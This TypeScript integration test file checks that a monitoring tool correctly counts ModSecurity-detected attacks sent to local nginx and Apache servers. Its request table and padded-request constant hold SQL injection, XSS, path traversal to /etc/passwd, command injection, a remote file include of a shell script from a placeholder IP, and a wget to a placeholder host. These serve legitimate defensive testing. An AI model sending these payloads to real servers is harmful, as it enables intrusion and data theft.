/** Real web servers with ModSecurity under attack, followed live: the counts are those of the sent requests. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type Api, call, type Distribution, login, type Request, sum } from './api.ts';
import { eventually, type Process } from './process.ts';
import { type Installation, Sandbox, type Server } from './sandbox.ts';
import { APACHE, NGINX, startApache, startNginx, startRelay, type WebServer } from './web-server.ts';

/** Requests of each category, and how many; `n` makes them differ. */
const ATTACKS: Record<string, { times: number; request(n: number): Request & { path: string } }> = {
  sqli: { times: 30, request: (n) => ({ path: `/?id=${n}%27%20OR%20%271%27=%271%27--%20-` }) },
  xss: { times: 25, request: (n) => ({ path: `/?q=%3Cscript%3Ealert(${n})%3C/script%3E` }) },
  lfi: { times: 20, request: (n) => ({ path: `/?page=../../../../etc/passwd&n=${n}` }) },
  cmdi: { times: 20, request: (n) => ({ path: `/?x=$(id);%20cat%20/etc/hosts&n=${n}` }) },
  rfi: { times: 15, request: (n) => ({ path: `/?file=http://10.1.2.3/shell.txt&n=${n}` }) },
  robot: { times: 15, request: (n) => ({ path: `/?n=${n}`, headers: { 'User-Agent': 'Nikto/2.1.5' } }) },
  custom: { times: 10, request: (n) => ({ path: `/own-rule?n=${n}` }) },
  illegal: { times: 10, request: (n) => ({ path: `/?n=${n}`, method: 'DELETE' }) },
  vuln: { times: 5, request: (n) => ({ path: `/?n=${n}&x=%0d%0aSet-Cookie:%20a=b` }) },
};
const ATTACK_COUNT = Object.values(ATTACKS).reduce((total, { times }) => total + times, 0);
const REQUEST_COUNT = 400;
const HOSTS = ['shop.example.com', 'www.example.com'];

const sandbox = new Sandbox();
let installation: Installation;
let server: Server;
/** Each test has its own project. */
let api: Api;
let projects = 0;
let following: Process | null = null;
let webServer: WebServer | null = null;
let relay: WebServer | null = null;

beforeAll(async () => {
  ({ installation, server } = await sandbox.service());
});

beforeEach(async () => {
  const { id } = await sandbox.runJson<{ id: string }>('project', 'add', `project-${++projects}`);
  api = await login(server.address, { ...installation, project_id: id });
});

afterEach(async () => {
  await Promise.all([following?.kill(), webServer?.stop(), relay?.stop()]);
  following = null;
  webServer = null;
  relay = null;
});

afterAll(() => sandbox.clear());

function follow(...files: string[]): Process {
  following = sandbox.start(['follow', '--data', sandbox.data, '--project', api.project, ...files]);
  return following;
}

/** Sends all requests in mixed order, five at a time. */
async function attack(address: string): Promise<void> {
  const requests = Object.values(ATTACKS).flatMap(({ times, request }) =>
    Array.from({ length: times }, (_, n) => request(n)),
  );
  for (let n = 0; requests.length < REQUEST_COUNT; n++) requests.push({ path: `/?page=${n}` });
  const mixed = requests
    .map((request, i) => ({ request, order: (i * 7_919) % 401 }))
    .sort((a, b) => a.order - b.order);
  for (let start = 0; start < mixed.length; start += 5) {
    await Promise.all(
      mixed.slice(start, start + 5).map(async ({ request: { path, headers, ...rest } }, i) => {
        const host = HOSTS[i % HOSTS.length] ?? '';
        await call(address, path, {
          ...rest,
          headers: { Host: host, 'User-Agent': 'Mozilla/5.0', Accept: '*/*', ...headers },
        });
      }),
    );
  }
}

async function expectSentCounts(since: number): Promise<void> {
  const range = `from=${since}&to=${Date.now() + 60_000}`;
  const distribution = await eventually(async () => {
    const { requests, attacks } = await api.timeline(range);
    if (sum(requests) < REQUEST_COUNT || sum(attacks) < ATTACK_COUNT) return undefined;
    return api.distribution(range);
  }, `${REQUEST_COUNT} requests and ${ATTACK_COUNT} attacks`);
  const { requests, attacks } = await api.timeline(range);
  expect(sum(requests)).toBe(REQUEST_COUNT);
  expect(sum(attacks)).toBe(ATTACK_COUNT);
  const sent: Distribution = Object.fromEntries(
    Object.entries(ATTACKS).map(([name, { times }]) => [name, times]),
  );
  expect(Object.fromEntries(Object.entries(distribution).filter(([, n]) => n > 0))).toEqual(sent);
  expect([...(await api.hostIds()).keys()]).toEqual(HOSTS);
  const ids = [...(await api.hostIds()).values()];
  const ofHosts = await api.timeline(`${range}&hosts=${ids.join('&hosts=')}`);
  expect(ofHosts).toEqual(await api.timeline(range));
}

/** A name so long that ModSecurity 2 and nginx cut the messages about it before they name the rule. */
const PADDED = `/?;cat%20/etc/hosts;echo%20${'A'.repeat(500)};wget%20http://x/${'A'.repeat(500)}=1`;
const BLOCKED_COUNT = 50;

async function sendMany(address: string, path: string): Promise<void> {
  for (let n = 0; n < BLOCKED_COUNT; n += 5) {
    await Promise.all(
      Array.from({ length: 5 }, () =>
        call(address, path, {
          headers: { Host: HOSTS[0] ?? '', 'User-Agent': 'Mozilla/5.0', Accept: '*/*' },
        }),
      ),
    );
  }
}

/** Waits for the attacks, and expects exactly those that were sent. */
async function expectBlocked(since: number, category: string): Promise<void> {
  const range = `from=${since}&to=${Date.now() + 60_000}`;
  const distribution = await eventually(async () => {
    const { attacks } = await api.timeline(range);
    return sum(attacks) < BLOCKED_COUNT ? undefined : api.distribution(range);
  }, `${BLOCKED_COUNT} attacks`);
  expect(Object.fromEntries(Object.entries(distribution).filter(([, n]) => n > 0))).toEqual({
    [category]: BLOCKED_COUNT,
  });
}

describe.skipIf(!NGINX.isInstalled() && process.env.CI !== 'true')(
  `nginx with ModSecurity 3 (needs: ${NGINX.needs})`,
  () => {
    test.each(['JSON', 'Native'] as const)('access log and %s audit log, followed live', async (format) => {
      const since = Date.now() - 1_000;
      webServer = await startNginx(format);
      follow(webServer.accessLog, webServer.auditLog);
      await attack(webServer.address);
      await expectSentCounts(since);
    });

    test('access log followed live, audit records pushed by ModSecurity', async () => {
      const since = Date.now() - 1_000;
      await sandbox.runJson('user', 'add', 'nginx', '--role', 'ingest', '--project', api.project);
      const key = await sandbox.runJson<{ access: string; secret: string }>('key', 'add', '--user', 'nginx');
      const authorization = `Basic ${Buffer.from(`${key.access}:${key.secret}`).toString('base64')}`;
      relay = await startRelay(`${api.address}/ingest/v1/${api.project}?source=audit`, authorization);
      webServer = await startNginx('JSON', `${relay.address}/audit`);
      follow(webServer.accessLog);
      await attack(webServer.address);
      await expectSentCounts(since);
    });

    test('access log and error log, followed live: several rules of one request are one attack', async () => {
      const since = Date.now() - 1_000;
      webServer = await startNginx('JSON');
      follow(webServer.accessLog, webServer.errorLog);
      await attack(webServer.address);
      await expectSentCounts(since);
    });

    test('an error log at the default level has every attack', async () => {
      const since = Date.now() - 1_000;
      webServer = await startNginx('JSON', undefined, 'error');
      follow(webServer.errorLog);
      await sendMany(webServer.address, '/?id=1%27%20OR%20%271%27=%271%27--%20-');
      await expectBlocked(since, 'vuln');
    });

    test.each(['auditLog', 'errorLog'] as const)('a padded attack is one attack in the %s', async (log) => {
      const since = Date.now() - 1_000;
      webServer = await startNginx('JSON');
      follow(webServer[log]);
      await sendMany(webServer.address, PADDED);
      await expectBlocked(since, 'cmdi');
    });
  },
);

describe.skipIf(!APACHE.isInstalled() && process.env.CI !== 'true')(
  `Apache with mod_security2 (needs: ${APACHE.needs})`,
  () => {
    test.each(['JSON', 'Native'] as const)('access log and %s audit log, followed live', async (format) => {
      const since = Date.now() - 1_000;
      webServer = await startApache(format);
      follow(webServer.accessLog, webServer.auditLog);
      await attack(webServer.address);
      await expectSentCounts(since);
    });

    test.each([
      ['JSON', 'auditLog'],
      ['Native', 'auditLog'],
      ['JSON', 'errorLog'],
    ] as const)(
      'a padded attack is one attack, by the anomaly score of CRS, in the %s %s',
      async (format, log) => {
        const since = Date.now() - 1_000;
        webServer = await startApache(format);
        follow(webServer[log]);
        await sendMany(webServer.address, PADDED);
        await expectBlocked(since, 'cmdi');
      },
    );
  },
);
